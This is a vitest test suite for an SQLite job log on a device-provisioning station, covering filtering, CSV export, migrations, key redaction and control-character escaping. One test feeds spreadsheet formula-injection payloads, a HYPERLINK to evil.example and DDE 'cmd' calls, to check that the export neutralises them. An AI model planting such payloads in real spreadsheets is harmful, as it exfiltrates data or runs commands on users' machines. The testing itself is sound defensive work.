import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { delay, JobFailure, JobQueue, JobSkipped, type JobDefinition } from '../../src/main/jobs/index.js';
import { MIGRATIONS, StationLog } from '../../src/main/log/index.js';
import { controlChars } from '../support/control-chars.js';
import { tempDir } from '../support/temp.js';

const dirs: Array<{ remove(): void }> = [];
afterEach(() => {
  for (const d of dirs.splice(0)) d.remove();
});

function freshLog(): { log: StationLog; file: string } {
  const dir = tempDir('tds-log-');
  dirs.push(dir);
  const file = path.join(dir.path, 'log.sqlite');
  return { log: StationLog.open(file, { stationId: 'bench-1' }), file };
}

function job(target: string, mac: string, outcome: 'ok' | 'fail' | 'skip', extra: Partial<JobDefinition> = {}): JobDefinition {
  return {
    kind: 'esp32',
    target,
    steps: [{ name: 'probe' }, { name: 'flash' }],
    initial: { operator: 'ana', accountId: 7, serverUrl: 'https://127.0.0.1:8443', firmware: { name: 'fw', version: '1.2.3', sha256: 'ab'.repeat(32) } },
    run: async (ctx) => {
      await ctx.step('probe', async (s) => {
        ctx.update({ mac, gatewayCode: `GW-${mac.replace(/:/g, '')}` });
        s.log('chip ESP32-D0WD-V3');
        if (outcome === 'skip') throw new JobSkipped('MAC_ALREADY_PROVISIONED', `${mac} already has an active certificate; stopped without changing anything`);
      });
      await ctx.step('flash', async () => {
        await delay(5);
        if (outcome === 'fail') throw new JobFailure('PORT_GONE', 'unplugged', { where: 'app at 0x10000, 65536 of 742192 bytes written' });
        ctx.update({ certificateSerial: '0A1B2C', certificateExpiresAt: '2036-01-01T00:00:00.000Z', gatewayId: 3 });
      });
    },
    ...extra,
  };
}

describe('StationLog', () => {
  it('records one row per job and per step, with timings, results and errors', async () => {
    const { log } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    const ok = q.submit(job('/dev/ttyUSB0', 'aa:bb:cc:00:00:01', 'ok'));
    const bad = q.submit(job('/dev/ttyUSB1', 'aa:bb:cc:00:00:02', 'fail'));
    await q.idle();
    const rOk = log.get(ok)!;
    expect(rOk).toMatchObject({
      stationId: 'bench-1',
      kind: 'esp32',
      target: '/dev/ttyUSB0',
      operator: 'ana',
      mac: 'aa:bb:cc:00:00:01',
      gatewayCode: 'GW-aabbcc000001',
      gatewayId: 3,
      accountId: 7,
      certSerial: '0A1B2C',
      certExpiresAt: '2036-01-01T00:00:00.000Z',
      firmwareName: 'fw',
      firmwareVersion: '1.2.3',
      firmwareSha256: 'ab'.repeat(32),
      serverUrl: 'https://127.0.0.1:8443',
      result: 'succeeded',
      errorCode: null,
    });
    expect(rOk.durationMs).toBeGreaterThanOrEqual(5);
    const rBad = log.get(bad)!;
    expect(rBad).toMatchObject({ result: 'failed', errorCode: 'PORT_GONE', errorMessage: 'unplugged' });
    expect(rBad.errorWhere).toBe('flash: app at 0x10000, 65536 of 742192 bytes written');
    const steps = log.steps(bad);
    expect(steps.map((s) => [s.name, s.status])).toEqual([
      ['probe', 'done'],
      ['flash', 'failed'],
    ]);
    expect(steps[1]!.durationMs).toBeGreaterThanOrEqual(5);
    expect(steps[1]!.detail).toContain('65536 of 742192');
    expect(log.lines(ok).some((l) => l.text === 'chip ESP32-D0WD-V3' && l.step === 'probe')).toBe(true);
    log.close();
  });

  it('filters by result, MAC, serial, operator, kind and date range; exports CSV; counts today', async () => {
    const { log } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    q.submit(job('/dev/a', 'aa:bb:cc:00:00:01', 'ok'));
    q.submit(job('/dev/b', 'aa:bb:cc:00:00:02', 'ok'));
    q.submit(job('/dev/c', 'aa:bb:cc:00:00:03', 'fail'));
    q.submit(job('/dev/d', 'aa:bb:cc:00:00:04', 'skip'));
    await q.idle();
    expect(log.query({ result: 'succeeded' })).toHaveLength(2);
    // A board stopped because it is already provisioned is skipped, not failed.
    const skipped = log.query({ result: 'skipped' });
    expect(skipped.map((r) => [r.target, r.result, r.errorCode])).toEqual([['/dev/d', 'skipped', 'MAC_ALREADY_PROVISIONED']]);
    expect(log.steps(skipped[0]!.id).map((st) => st.status)).toEqual(['skipped', 'skipped']);
    expect(parse(log.exportCsv({ result: 'skipped' }), { columns: true })).toEqual([expect.objectContaining({ port_or_host: '/dev/d', result: 'skipped', error_code: 'MAC_ALREADY_PROVISIONED' })]);
    expect(log.query({ result: ['failed', 'cancelled'] })).toHaveLength(1);
    expect(log.query({ mac: 'AA-BB-CC-00-00-02' }).map((r) => r.target)).toEqual(['/dev/b']);
    expect(log.query({ serial: '0a1b2c' })).toHaveLength(2);
    expect(log.query({ operator: 'bob' })).toHaveLength(0);
    expect(log.query({ kind: 'pi' })).toHaveLength(0);
    expect(log.query({ from: new Date(Date.now() - 60_000), to: new Date(Date.now() + 60_000) })).toHaveLength(4);
    expect(log.query({ to: '2000-01-01' })).toHaveLength(0);
    expect(() => log.query({ from: 'yesterday-ish' })).toThrow(/not a date/);
    // count() is the total behind a page: the same filter, without limit/offset.
    for (const f of [{}, { result: 'succeeded' as const }, { result: ['failed' as const, 'cancelled' as const] }, { serial: '0a1b2c' }, { operator: 'bob' }, { mac: 'aa:bb:cc:00:00:03' }]) {
      expect(log.count(f)).toBe(log.query(f).length);
    }
    expect(log.query({ limit: 1, offset: 1 })).toHaveLength(1);
    expect(log.count({ limit: 1, offset: 1 })).toBe(4);
    expect(log.count({ to: '2000-01-01' })).toBe(0);

    const rows = parse(log.exportCsv({ result: 'succeeded' }), { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(2);
    expect(Object.keys(rows[0]!)).toEqual(expect.arrayContaining(['job_id', 'mac', 'cert_serial', 'firmware_sha256', 'result', 'duration_ms']));
    expect(rows.map((r) => r.mac).sort()).toEqual(['aa:bb:cc:00:00:01', 'aa:bb:cc:00:00:02']);

    const today = log.dayFigures();
    expect(today).toMatchObject({ provisioned: 2, failed: 1, cancelled: 0, skipped: 1, jobs: 4 });
    expect(today.medianDurationMs).toBeGreaterThanOrEqual(5);
    expect(log.dayFigures(new Date('2001-02-03T12:00:00'))).toMatchObject({ day: '2001-02-03', provisioned: 0, medianDurationMs: null });
    log.close();
  });

  it('spreadsheet formula injection: no text cell of the CSV export starts a formula', async () => {
    const { log } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    // Typed or reported values a spreadsheet would run: = + - @, and tab or CR in front of one.
    const hostile = {
      target: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
      operator: '+cmd|" /C calc"!A0',
      gatewayCode: '-2+3',
      message: '@SUM(1+1)*cmd|" /C calc"!A0',
      where: '\t=1+1',
      server: '\r=1+1',
    };
    const id = q.submit({
      kind: 'esp32',
      target: hostile.target,
      steps: [{ name: 'probe' }],
      initial: { operator: hostile.operator, serverUrl: hostile.server },
      run: async (ctx) => {
        await ctx.step('probe', async () => {
          ctx.update({ mac: 'aa:bb:cc:00:00:09', gatewayCode: hostile.gatewayCode });
          throw new JobFailure('INTERNAL', hostile.message, { where: hostile.where });
        });
      },
    });
    await q.wait(id);
    const csv = log.exportCsv();
    const [row] = parse(csv, { columns: true }) as Array<Record<string, string>>;
    // Each value is kept, shown as text: one leading apostrophe, nothing else changed.
    expect(row).toMatchObject({
      port_or_host: `'${hostile.target}`,
      operator: `'${hostile.operator}`,
      gateway_code: `'${hostile.gatewayCode}`,
      error_message: `'${hostile.message}`,
      // A CR never reaches the export raw: the log stores control characters escaped (`\r` as text),
      // which no spreadsheet reads as a formula.
      server: '\\r=1+1',
      mac: 'aa:bb:cc:00:00:09',
      result: 'failed',
    });
    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The stored record keeps the real values; only the export is made safe.
    expect(log.get(id)).toMatchObject({ target: hostile.target, operator: hostile.operator, gatewayCode: hostile.gatewayCode });
    log.close();
  });

  it('filters by parts (operator, MAC, gateway code, station, firmware, serial), error code and free text; station events join the jobs, newest first', async () => {
    const { log } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    await q.wait(q.submit(job('/dev/a', 'aa:bb:cc:00:00:01', 'ok')));
    await q.wait(q.submit(job('/dev/b', 'aa:bb:cc:00:de:02', 'fail', { initial: { operator: 'Beatriz Lima', firmware: { name: 'gw-fw', version: '2.0.1', sha256: 'cd'.repeat(32) } } })));
    const revoked = log.recordEvent({ kind: 'revocation', operator: 'Ana', mac: 'aa:bb:cc:00:00:01', gatewayCode: 'GW-aabbcc000001', gatewayId: 3, certSerial: '0A1B2C', reason: 'keyCompromise' });
    log.recordEvent({ kind: 'host-key', operator: 'Ana', target: 'pi.local:22', reason: 'SHA256:abc' });

    const ids = (f: Parameters<StationLog['entries']>[0]): string[] => log.entries(f).map((e) => (e.type === 'job' ? `job ${e.job.target}` : `event ${e.event.kind}`));
    expect(ids({})).toEqual(['event host-key', 'event revocation', 'job /dev/b', 'job /dev/a']);
    expect(log.countEntries({})).toBe(4);
    expect(ids({ operator: 'lima' })).toEqual(['job /dev/b']);
    expect(ids({ operator: 'an' })).toEqual(['event host-key', 'event revocation', 'job /dev/a']);
    expect(ids({ mac: 'DE-02' })).toEqual(['job /dev/b']);
    expect(ids({ mac: '00:00:01' })).toEqual(['event revocation', 'job /dev/a']);
    expect(ids({ gatewayCode: 'gw-aabbcc00' })).toEqual(['event revocation', 'job /dev/b', 'job /dev/a']);
    expect(ids({ station: 'BENCH' })).toHaveLength(4);
    expect(ids({ station: 'other' })).toEqual([]);
    expect(ids({ firmware: '2.0' })).toEqual(['job /dev/b']);
    expect(ids({ firmware: 'cdcd' })).toEqual(['job /dev/b']);
    expect(ids({ serial: '0a:1b' })).toEqual(['event revocation', 'job /dev/a']);
    expect(ids({ errorCode: 'PORT_GONE' })).toEqual(['job /dev/b']);
    expect(ids({ result: 'succeeded' })).toEqual(['job /dev/a']);
    expect(ids({ kind: 'revocation' })).toEqual(['event revocation']);
    expect(ids({ kind: 'esp32' })).toEqual(['job /dev/b', 'job /dev/a']);
    expect(ids({ text: 'unplugged' })).toEqual(['job /dev/b']);
    expect(ids({ text: 'keycompromise' })).toEqual(['event revocation']);
    expect(ids({ text: 'pi.local' })).toEqual(['event host-key']);
    expect(ids({ text: 'aabbcc00de' })).toEqual(['job /dev/b']);
    // LIKE's own wildcards are taken literally.
    expect(ids({ operator: '%' })).toEqual([]);
    expect(ids({ text: 'a_b' })).toEqual([]);
    expect(ids({ text: 'port_gone' })).toEqual(['job /dev/b']);
    expect(log.entries({ kind: 'revocation' })[0]).toMatchObject({ type: 'event', event: { id: revoked.id, stationId: 'bench-1', certSerial: '0A1B2C', gatewayId: 3 } });

    const csv = parse(log.exportCsv({}), { columns: true }) as Array<Record<string, string>>;
    expect(csv.map((r) => r.kind)).toEqual(['host-key', 'revocation', 'esp32', 'esp32']);
    expect(csv[1]).toMatchObject({ mac: 'aa:bb:cc:00:00:01', cert_serial: '0A1B2C', operator: 'Ana', event_reason: 'keyCompromise' });
    log.close();
  });

  it('pages past 1,000 entries, and hands out the newest lines of a long job log', async () => {
    const { log } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    for (let i = 0; i < 1150; i++) log.recordEvent({ kind: 'host-key', operator: 'ana', target: `pi-${i}.local:22`, reason: 'SHA256:x' });
    expect(log.countEntries({})).toBe(1150);
    // Page by page (100 at a time) past the 1,000th: every entry once.
    const seen = new Set<string>();
    for (let offset = 0; offset < 1200; offset += 100) {
      const page = log.entries({ limit: 100, offset });
      expect(page).toHaveLength(Math.max(0, Math.min(100, 1150 - offset)));
      for (const e of page) seen.add(e.type === 'event' ? e.event.target! : '');
    }
    expect(seen.size).toBe(1150);
    const id = q.submit({
      kind: 'pi',
      target: 'pi.local:22',
      steps: [{ name: 'a' }],
      run: (ctx) => ctx.step('a', async (s) => {
        for (let i = 0; i < 30; i++) s.log(`line ${i}`);
      }),
    });
    await q.wait(id);
    const last = log.lines(id, { last: 5 });
    expect(last.map((l) => l.text)).toEqual(['line 27', 'line 28', 'line 29', expect.stringMatching(/^step a done/), 'job succeeded']);
    expect(log.lineCount(id)).toBeGreaterThanOrEqual(31);
    log.close();
  });

  it('counts devices, not jobs: retries until a pass are one provisioned device; a stop is skipped, not failed', async () => {
    const { log } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    const stop = (mac: string): JobDefinition => ({
      kind: 'esp32',
      target: '/dev/s',
      steps: [{ name: 'certificate' }],
      run: async (ctx) => {
        ctx.update({ mac });
        await ctx.step('certificate', async () => {
          throw new JobSkipped('MAC_ALREADY_PROVISIONED', `${mac} is provisioned; stopped without changing anything`);
        });
      },
    });
    // Board 1 fails twice, then passes; board 2 fails once; board 3 is stopped by the operator;
    // a fourth failure before any MAC was read counts as its port's device.
    for (const outcome of ['fail', 'fail', 'ok'] as const) await q.wait(q.submit(job('/dev/a', 'aa:bb:cc:00:00:01', outcome)));
    await q.wait(q.submit(job('/dev/b', 'aa:bb:cc:00:00:02', 'fail')));
    await q.wait(q.submit(stop('aa:bb:cc:00:00:03')));
    await q.wait(
      q.submit({ kind: 'esp32', target: '/dev/c', steps: [{ name: 'probe' }], run: (ctx) => ctx.step('probe', async () => Promise.reject(new JobFailure('NO_BOOTLOADER'))) }),
    );
    const today = log.dayFigures();
    expect(today).toMatchObject({ provisioned: 1, failed: 2, skipped: 1, cancelled: 0, jobs: 6 });
    expect(today.byHour.reduce((n, h) => n + h.succeeded, 0)).toBe(1);
    expect(today.byHour.reduce((n, h) => n + h.failed, 0)).toBe(2);
    expect(log.query({ result: 'skipped' }).map((r) => r.mac)).toEqual(['aa:bb:cc:00:00:03']);
    log.close();
  });

  it('keeps the time a job waited for the operator apart: stored per step and job, left out of the median', async () => {
    const { log } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    q.onUpdate((s) => {
      if (s.state === 'waiting-input' && s.question) setTimeout(() => q.answer(s.id, s.question!.id, 'yes'), 400);
    });
    const id = q.submit({
      kind: 'pi',
      target: 'pi.local:22',
      steps: [{ name: 'connect' }, { name: 'certificate' }],
      run: async (ctx) => {
        ctx.update({ mac: 'dc:a6:32:00:00:01' });
        await ctx.step('connect', () => delay(20));
        await ctx.step('certificate', async () => {
          await delay(20);
          await ctx.ask({ kind: 'reprovision', message: 'replace?', choices: ['yes', 'no'] });
          await delay(20);
        });
      },
    });
    const snap = await q.wait(id);
    expect(snap.waitedMs).toBeGreaterThanOrEqual(380);
    expect(snap.steps[1]!.waitedMs).toBe(snap.waitedMs);
    expect(snap.steps[0]!.waitedMs).toBeUndefined();
    const row = log.get(id)!;
    expect(row.waitedMs).toBe(snap.waitedMs);
    expect(row.durationMs! - row.waitedMs!).toBeLessThan(380);
    const [, cert] = log.steps(id);
    expect(cert!.waitedMs).toBe(snap.waitedMs);
    expect(cert!.durationMs).toBeGreaterThanOrEqual(cert!.waitedMs! + 40);
    const today = log.dayFigures();
    expect(today.medianDurationMs).toBe(row.durationMs! - row.waitedMs!);
    log.close();
  });

  it('applies migrations once, keeps data across reopen, and refuses a newer schema', () => {
    const { log, file } = freshLog();
    log.close();
    const again = StationLog.open(file, { stationId: 'bench-1' });
    again.close();
    const db = new Database(file);
    expect(db.pragma('user_version', { simple: true })).toBe(MIGRATIONS.length);
    db.pragma(`user_version = ${MIGRATIONS.length + 1}`);
    db.close();
    expect(() => StationLog.open(file, { stationId: 'x' })).toThrow(/newer than this station/);
  });

  it('opens a log written before the shared migration runner (schema counted in user_version) without re-applying it', () => {
    const dir = tempDir('tds-log-');
    dirs.push(dir);
    const file = path.join(dir.path, 'old.sqlite');
    // What the station wrote before: migration 1's tables, user_version = 1, no schema_migrations table.
    const old = new Database(file);
    old.exec(MIGRATIONS[0]!.sql);
    old.pragma('user_version = 1');
    old.prepare("INSERT INTO jobs (id, station_id, kind, target, result, created_at) VALUES ('old-job', 'bench-1', 'esp32', '/dev/ttyUSB0', 'succeeded', '2025-01-01T00:00:00Z')").run();
    old.close();
    const log = StationLog.open(file, { stationId: 'bench-1' });
    log.close();
    const db = new Database(file, { readonly: true });
    // Migration 1 adopted (not re-applied), the later ones applied on top.
    expect(db.prepare('SELECT version, name FROM schema_migrations ORDER BY version').all()).toEqual(MIGRATIONS.map((m) => ({ version: m.version, name: m.name })));
    expect(db.pragma('user_version', { simple: true })).toBe(MIGRATIONS.length);
    expect(db.prepare('SELECT id FROM jobs').all()).toEqual([{ id: 'old-job' }]);
    db.close();
  });

  it('never stores key material, even when a job hands it over by mistake', async () => {
    const { log, file } = freshLog();
    const q = new JobQueue();
    log.attach(q);
    const body = 'MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgSECRETSECRETSECRETSECRET';
    const pem = `-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----\n`;
    const id = q.submit({
      kind: 'esp32',
      target: '/dev/k',
      steps: [{ name: 'online' }],
      run: async (ctx) => {
        ctx.log(`oops ${pem}`);
        await ctx.step('online', async () => {
          throw new JobFailure('BROKER_NEVER_SAW_DEVICE', `bad ${pem}`, { attachment: { label: 'boot log', text: `boot\n${pem}\nwifi failed` } });
        });
      },
    });
    await q.wait(id);
    expect(log.attachment(id)?.text).toContain('wifi failed');
    log.close();
    const bytes = Buffer.concat(
      readdirSync(path.dirname(file))
        .filter((f) => f.startsWith('log.sqlite'))
        .map((f) => readFileSync(path.join(path.dirname(file), f))),
    );
    expect(bytes.includes(Buffer.from('SECRETSECRET'))).toBe(false);
    expect(bytes.includes(Buffer.from('BEGIN PRIVATE KEY'))).toBe(false);
  });

  it('stores control characters escaped, even from a writer that hands them over raw', () => {
    const { log } = freshLog();
    const hostile = 'A\x1b[2J\rB\u202eC\u009b1m';
    const escaped = 'A\\x1b[2J\\rB\\u202eC\\x9b1m';
    const at = new Date().toISOString();
    // Not through JobRun (which escapes already): the log itself must not store what it is given raw.
    log.recordSnapshot({
      id: 'raw-1',
      kind: 'esp32',
      target: '/dev/raw',
      state: 'failed',
      progress: 0.5,
      createdAt: at,
      mac: hostile,
      gatewayCode: hostile,
      facts: { firmware: hostile },
      steps: [{ name: 'boot-log', status: 'failed', detail: hostile }],
      error: { code: 'BROKER_NEVER_SAW_DEVICE', message: `${hostile}\nline 2`, hint: hostile, where: hostile, attachment: { label: hostile, text: `${hostile}\r\nnext` } },
    });
    log.appendLine({ jobId: 'raw-1', at, level: 'info', text: `[device] ${hostile}\nforged` });
    expect(log.get('raw-1')).toMatchObject({ mac: escaped, gatewayCode: escaped, errorMessage: `${escaped}\nline 2`, errorHint: escaped, errorWhere: escaped });
    expect(log.steps('raw-1')[0]?.detail).toBe(escaped);
    expect(log.attachment('raw-1')).toEqual({ label: escaped, text: `${escaped}\nnext` });
    expect(log.lines('raw-1').map((l) => l.text)).toEqual([`[device] ${escaped}\\nforged`]);
    const csv = log.exportCsv();
    expect(csv).toContain(escaped);
    expect(controlChars(csv.replaceAll('\r', ''), { allowLf: true })).toEqual([]);
    expect(controlChars(log.lines('raw-1')[0]?.text ?? '')).toEqual([]);
    log.close();
  });
});
